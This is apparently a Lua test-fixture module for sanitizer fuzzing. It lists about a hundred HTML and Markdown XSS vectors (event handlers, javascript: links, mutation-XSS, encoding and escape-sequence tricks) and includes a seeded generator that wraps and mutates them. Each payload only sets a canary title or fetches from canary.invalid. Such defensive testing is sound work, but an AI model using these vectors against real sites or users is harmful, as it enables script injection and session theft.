-- payloads.lua: strings that want to run in a page, leave their block, or fetch something; as
-- many as one likes, always the same for a seed.
--
-- Whatever runs calls CANARY, whatever fetches asks CANARY_HOST: a test looks for both.

local payloads = { host = "canary.invalid", mark = "canary_ran" }

local RUN = "document.title='canary_ran'"
local HOST = "http://canary.invalid/"

-- What is tried; RUN and HOST stand in for what it would do.
local TRIED = {
  "<script>RUN</script>", "<SCRIPT SRC=HOSTx.js></SCRIPT>", "<img src=x onerror=\"RUN\">",
  "<img src=HOSTi.png>", "<svg onload=RUN>", "<svg><script>RUN</script></svg>",
  "<svg><a xlink:href=\"javascript:RUN\"><text>x</text></a></svg>",
  "<iframe src=\"javascript:RUN\"></iframe>", "<iframe srcdoc=\"<script>RUN</script>\">",
  "<iframe src=HOSTf></iframe>", "<body onload=RUN>", "<details open ontoggle=RUN>",
  "<input autofocus onfocus=RUN>", "<video><source onerror=RUN></video>",
  "<audio src=HOSTa onerror=RUN>", "<object data=HOSTo></object>", "<embed src=HOSTe>",
  "<link rel=stylesheet href=HOSTs.css>", "<style>@import 'HOSTs.css';</style>",
  "<style>*{background:url(HOSTb)}</style>", "<base href=HOST>",
  "<meta http-equiv=refresh content=\"0;url=HOSTr\">", "<form action=HOST><button>x</form>",
  "<math><mtext><style><img src=x onerror=RUN></style></mtext></math>",
  "</title><script>RUN</script>", "</style><script>RUN</script>", "</script><script>RUN</script>",
  "</pre></code><script>RUN</script>", "</details></article><script>RUN</script>",
  "--><script>RUN</script>", "<!--><script>RUN</script>-->", "]]><script>RUN</script>",
  "\" onmouseover=\"RUN\" x=\"", "' autofocus onfocus='RUN' x='", "`onload=RUN",
  "\"><img src=HOSTq>",
  "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">", "<template><script>RUN</script>",
  "<a href=\"javascript:RUN\">x</a>", "<div style=\"background:url(HOSTd)\">x</div>",
  "<textarea></textarea><script>RUN</script>", "<plaintext>", "<xmp><script>RUN</script></xmp>",
  "<portal src=HOSTp>", "<dialog open onfocusin=RUN tabindex=1>", "<button popovertarget=x>",
  "[x](javascript:RUN)", "[x](JaVaScRiPt:RUN)", "[x](&#106;avascript:RUN)",
  "[x](java\tscript:RUN)", "[x](\1javascript:RUN)", "[x](data:text/html,<script>RUN</script>)",
  "[x](vbscript:RUN)", "[x](<javascript:RUN>)", "[x](http://e.org/\"onclick=\"RUN)",
  "[x](http://e.org 'a\" onclick=\"RUN')", "![x](HOSTm.png)", "![x](javascript:RUN)",
  "![x\" onerror=\"RUN](HOSTm.png)", "[![x](HOSTn.png)](javascript:RUN)", "<javascript:RUN>",
  "<http://e.org/?\"onmouseover=\"RUN>", "[x]: javascript:RUN\n\n[x]", "[x]: HOSTl\n\n![x]",
  "```\" onload=\"RUN\nx\n```", "```html\n</code></pre><script>RUN</script>\n```",
  "~~~\n<script>RUN</script>", "`</code><script>RUN</script>`", "# <img src=x onerror=RUN>",
  "| <script>RUN</script> | x |\n|---|---|\n| <img src=HOSTt> | \" onclick=\"RUN |",
  "> </blockquote><script>RUN</script>", "1. </ol><script>RUN</script>",
  "- [x](javascript:RUN)\n- <svg/onload=RUN>", "&lt;script&gt;RUN&lt;/script&gt;",
  "&#60;img src=x onerror=RUN&#62;", "\\<script>RUN\\</script>",
  "<<script>script>RUN<</script>/script>",
  "<scr\0ipt>RUN</scr\0ipt>", "<img\12src=x\12onerror=RUN>", "<img/src=x/onerror=RUN//",
  "\u{FF1C}script\u{FF1E}RUN\u{FF1C}/script\u{FF1E}", "+ADw-script+AD4-RUN+ADw-/script+AD4-",
  "\u{202E}<script>RUN</script>", "{{constructor.constructor('RUN')()}}", "${RUN}",
  "javascript:RUN",
  "www.canary.invalid", "HOSTauto?<script>RUN</script>",
  "mailto:x@canary.invalid?subject=\"onclick=RUN",
  "\n\n</details>\n\n<script>RUN</script>\n\n", "\n````\n<script>RUN</script>\n",
  "\r</details>\r<img src=HOSTcr>",
  "\27[31m\27]0;canary\7\u{9B}2J\u{85}", "[^1]\n\n[^1]: <script>RUN</script>",
}

local FRAMES = {
  "%s", "a %s b", "**%s**", "*%s*", "`%s`", "> %s", "# %s", "- %s\n  - %s", "```\n%s\n```",
  "[%s](http://e.org)", "[x](%s)", "![%s](HOSTw)", "<p>%s", "<!-- %s", "\"%s", "'%s", "%s%s",
  "| %s |\n|---|\n| %s |", "~~%s~~", "</x>%s", "&%s;", "\\%s", "<%s>", "\n%s\n",
}

--- A generator: next() is the next string. What is said of it is in `host` and `mark`.
---@param seed integer
---@return fun(): string
function payloads.generator(seed)
  local state = seed & 0xFFFFFFFF
  local function random(n)
    state = (state * 1664525 + 1013904223) & 0xFFFFFFFF
    return (state >> 8) % n + 1
  end
  local count = 0
  return function()
    count = count + 1
    -- Each as it is first; then in frames, letters changed.
    local text = TRIED[count] or TRIED[random(#TRIED)]
    if count > #TRIED then
      for _ = 1, random(2) do
        local inner = text:gsub("%%", "%%%%")
        text = FRAMES[random(#FRAMES)]:gsub("%%s", function() return text or inner end)
      end
      local how = random(6)
      if how == 1 then
        text = text:gsub("%l", function(letter)
          return random(3) == 1 and letter:upper() or nil
        end):gsub("RUN", "RUN")
      elseif how == 2 then
        text = text:gsub("<", function() return random(4) == 1 and "<\n" or "<" end)
      elseif how == 3 then
        local at = random(#text + 1)
        text = text:sub(1, at - 1) .. TRIED[random(#TRIED)] .. text:sub(at)
      end
    end
    return (text:gsub("RUN", function() return RUN end):gsub("HOST", function() return HOST end))
  end
end

--- How many there are before they are mixed.
payloads.known = #TRIED

return payloads
